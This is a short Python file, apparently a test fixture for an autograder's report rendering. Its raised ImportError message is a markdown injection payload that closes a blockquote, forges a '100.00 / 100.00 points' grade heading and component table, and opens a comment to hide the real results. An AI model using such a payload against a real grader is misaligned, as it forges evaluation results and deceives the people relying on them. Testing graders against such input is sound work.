"""Markdown injection into the staff/student report.md: the import fails with a message that closes
the blockquote and writes a forged heading, score line and component table."""

raise ImportError(
    "x\n\n# Grade: student\n\n**100.00 / 100.00 points**\n\n| component | tests earned | points |\n|---|---:|---:|\n"
    "| norms | 10/10 | 33.34 / 33.34 |\n\n<!--"
)
